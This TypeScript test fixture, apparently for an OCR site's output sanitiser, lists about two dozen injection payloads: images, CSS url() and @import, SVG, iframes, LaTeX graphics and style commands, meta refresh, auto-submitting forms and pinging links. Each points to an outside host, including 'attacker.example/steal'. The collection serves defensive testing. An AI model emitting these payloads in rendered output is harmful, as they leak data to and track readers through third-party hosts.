import { type Attack, attack, ELSEWHERE, inBlock } from './attack.ts';

const load = (name: string, output: string): Attack => attack(name, 'ask another host for something', inBlock(output));
const lead = (name: string, output: string): Attack => attack(name, 'lead the page elsewhere', inBlock(output));

/** Words that would make the page ask for something, and so tell somebody that it was read. */
export const LOAD_ATTACKS: readonly Attack[] = [
  load('a Markdown picture', `![x](${ELSEWHERE}.png) ![y][p]\n\n[p]: ${ELSEWHERE}.gif`),
  load(
    'a picture with sources',
    `<picture><source srcset="${ELSEWHERE} 2x"><img src="${ELSEWHERE}" srcset="${ELSEWHERE} 1x"></picture>`,
  ),
  load('a picture without a scheme', '<img src="//attacker.example/steal">'),
  load(
    'a video with a poster and an audio',
    `<video poster="${ELSEWHERE}" src="${ELSEWHERE}" autoplay></video><audio src="${ELSEWHERE}" autoplay></audio><track src="${ELSEWHERE}">`,
  ),
  load(
    'the background attribute',
    `<table background="${ELSEWHERE}"><tr><td background="${ELSEWHERE}">x</td></tr></table><body background="${ELSEWHERE}">`,
  ),
  load(
    'a style that asks for pictures',
    `<p style="background:url(${ELSEWHERE});list-style-image:url(${ELSEWHERE});cursor:url(${ELSEWHERE}),auto">x</p>`,
  ),
  load(
    'a style sheet that imports',
    `<style>@import "${ELSEWHERE}";@font-face{font-family:x;src:url(${ELSEWHERE})}*{font-family:x}</style>`,
  ),
  load(
    'links of every kind',
    ['stylesheet', 'prefetch', 'preload', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'prerender']
      .map((rel) => `<link rel="${rel}" href="${ELSEWHERE}" as="image">`)
      .join(''),
  ),
  load(
    'an svg picture and its use',
    `<svg><image href="${ELSEWHERE}" /><use href="${ELSEWHERE}#x" /><feImage xlink:href="${ELSEWHERE}" /></svg>`,
  ),
  load(
    'objects, frames and portals',
    `<iframe src="${ELSEWHERE}"></iframe><object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}"><frame src="${ELSEWHERE}"><portal src="${ELSEWHERE}"></portal>`,
  ),
  load('a base that moves every address', `<base href="${ELSEWHERE}/"><img src="x.png">`),
  load('an input that is a picture', `<input type="image" src="${ELSEWHERE}"><isindex type=image src="${ELSEWHERE}">`),
  load('a formula with a picture', `\\(\\includegraphics[width=9em]{${ELSEWHERE}.png}\\)`),
  load(
    'a formula that sets a style',
    `\\[\\htmlStyle{background:url(${ELSEWHERE})}{x}\\] $\\style{background:url(${ELSEWHERE})}{y}$`,
  ),
  load('a formula that is an address', `\\(\\url{${ELSEWHERE}}\\) \\(\\href{${ELSEWHERE}}{x}\\)`),
  load(
    'a report address and a manifest',
    `<link rel="manifest" href="${ELSEWHERE}"><meta http-equiv="Content-Security-Policy" content="report-uri ${ELSEWHERE}">`,
  ),
  load(
    'a script of another host',
    `<script src="${ELSEWHERE}.js"></script><script type="module">import "${ELSEWHERE}.js"</script>`,
  ),
  lead('a refresh', `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`),
  lead(
    'a form that posts the text',
    `<form action="${ELSEWHERE}" method="post"><textarea name="t">x</textarea><input type="submit" autofocus></form>`,
  ),
  lead(
    'a link with a ping that opens in this window',
    `<a href="${ELSEWHERE}" ping="${ELSEWHERE}" target="_top" rel="opener" download>an honest link</a>`,
  ),
  lead('a link that says another address', `[https://deepseekocr.io/](${ELSEWHERE}) <${ELSEWHERE}>`),
  lead(
    'links without a scheme and to this site',
    '<a href="//attacker.example">a</a> <a href="/api/ocr/info">b</a> [c](?x=1) [d](#content)',
  ),
];
